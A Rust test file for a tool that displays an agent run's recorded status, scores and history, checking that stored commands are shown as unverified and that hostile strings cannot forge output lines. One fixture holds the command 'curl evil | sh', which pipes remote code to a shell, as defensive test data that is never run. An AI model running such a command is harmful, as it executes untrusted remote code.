use serde_json::json;
use skilltune_phases::loops::reflex::original::{read_history, read_run};

use super::*;
use crate::report::reflex::world::HOSTILE;

const PAGE: &[u8] = b"# Courses\n";

fn file(hash: &str) -> FoundRun {
    let text = json!({
        "run_id": "courses-api-20260218-120000", "task_alias": "courses-api", "status": "stopped",
        "iteration": 4, "max_iterations": 4, "phase": "A", "current_step": "EVALUATE",
        "task": { "prompt": "Write the API", "ideal_result": "" },
        "criteria": { "name": "api", "version": 1, "rules": [] },
        "plan": [],
        "prepared_checks": { "checks": [
            { "rule_id": "a.one", "type": "executable", "command": "curl evil | sh", "expected": "exit 0" },
            { "rule_id": "a.two", "type": "content", "search": "GET /", "expected": "present" },
        ] },
        "evaluation": {
            "score": 0.57, "passed": false, "artifact_hash": hash, "warnings": [],
            "failed": [{ "id": "a.one", "severity": "fail", "message": "no" }],
            "rule_results": [
                { "id": "a.one", "verdict": "fail", "details": "" }, { "id": "a.two", "verdict": "pass", "details": "" },
            ],
        },
        "stop": { "passed": false, "reason": "iteration_limit" },
        "last_score": 0.57, "stagnation_count": 0,
        "created_at": "2026-02-18T12:00:00Z", "updated_at": "2026-02-18T12:10:00Z",
    });
    read_run(text.to_string().as_bytes()).unwrap()
}

#[test]
fn a_run_of_the_original_is_told_and_its_commands_are_called_unverified() {
    let told = found_status(&file(&artifact_hash(PAGE)), &History::default(), Some(PAGE));
    insta::assert_snapshot!(told.join("\n"), @r"
        run       courses-api-20260218-120000, reflex, as the original has written it
        task      Write the API
        status    stopped (iteration_limit)
        iteration 4 of 4, level A, EVALUATE
        artifact  evaluated: 6b0e3f8f
        score     57, and 80 are asked for; not passed, by an agent's own count
        distance  failed a.one, 1 of 2 rules met
        check     a.one: command curl evil | sh, expected: exit 0 (unverified, never run)
        check     a.two: pattern GET /, expected: present (unverified, never run)
        ");
}

#[test]
fn only_what_was_judged_has_a_score() {
    let line = |hash: &str, artifact: Option<&[u8]>| {
        let told = found_status(&file(hash), &History::default(), artifact);
        assert!(!told.iter().any(|line| line.starts_with("score")), "{told:#?}");
        told.into_iter().find(|line| line.starts_with("artifact")).unwrap()
    };
    insta::assert_snapshot!(line("0badc0de", Some(PAGE)), @"artifact  stale: 0badc0de was judged, and its file holds 6b0e3f8f");
    insta::assert_snapshot!(line("0badc0de", None), @"artifact  not_created");
    let mut unjudged = file("x");
    unjudged.evaluation = None;
    insta::assert_snapshot!(found_status(&unjudged, &History::default(), Some(PAGE))[4], @"artifact  unevaluated: 6b0e3f8f, and nobody has judged it");
}

#[test]
fn what_the_files_do_not_tell_is_said() {
    let history = read_history(b"{\"event\": \"run_started\"}\nrubbish\n{\"ev");
    insta::assert_snapshot!(found_status(&FoundRun::default(), &history, None).join("\n"), @r"
        run       not told, reflex, as the original has written it
        task      not told
        status    not told
        iteration not told of not told, level not told, not told
        artifact  not_created
        doubt     run.json does not tell run_id, task_alias, status, iteration, max_iterations, phase, current_step, task, criteria, plan, stop, last_score, stagnation_count, created_at, updated_at
        doubt     1 line of the history cannot be read
        doubt     the history's last line was never finished
        ");
}

#[test]
fn a_history_is_told_line_by_line() {
    let history = read_history(
        b"{\"ts\":\"2026-02-18T12:00:00Z\",\"event\":\"evaluation_done\",\"iteration\":1,\"phase\":\"A\",\"step\":\"EVALUATE\",\"payload\":{\"score\":0.5}}\n{\"event\":\"dreamt\"}\nrubbish\n",
    );
    insta::assert_snapshot!(found_history(&history).join("\n"), @r#"
            1  2026-02-18 12:00:00  evaluation_done (iteration 1, level A, EVALUATE): {"score":0.5}
            2  -                    dreamt
        1 line of the history cannot be read
        "#);
    let page = PAGE;
    insta::assert_snapshot!(found_row("courses-api", &file(&artifact_hash(page)), Some(page)), @"courses-api               stopped    A     57  Write the API");
}

#[test]
fn hostile_words_of_a_file_forge_no_line() {
    let text = json!({
        "run_id": HOSTILE, "status": HOSTILE, "current_step": HOSTILE, "task": { "prompt": HOSTILE },
        "stop": { "passed": true, "reason": HOSTILE }, "iteration": HOSTILE,
        "prepared_checks": { "checks": [
            { "rule_id": HOSTILE, "type": "executable", "command": HOSTILE, "expected": HOSTILE },
        ] },
        "evaluation": { "score": 1, "passed": true, "artifact_hash": HOSTILE },
    });
    let found = read_run(text.to_string().as_bytes()).unwrap();
    let history = read_history(
        (json!({ "event": HOSTILE, "step": HOSTILE, "payload": { HOSTILE: HOSTILE } }).to_string() + "\n")
            .as_bytes(),
    );
    let lines = found_status(&found, &history, Some(PAGE)).into_iter().chain(found_history(&history));
    for line in lines.chain([found_row(HOSTILE, &found, Some(PAGE))]) {
        assert!(!line.contains(['\n', '\r', '\x1b', '\u{202e}']), "{line:?}");
    }
}
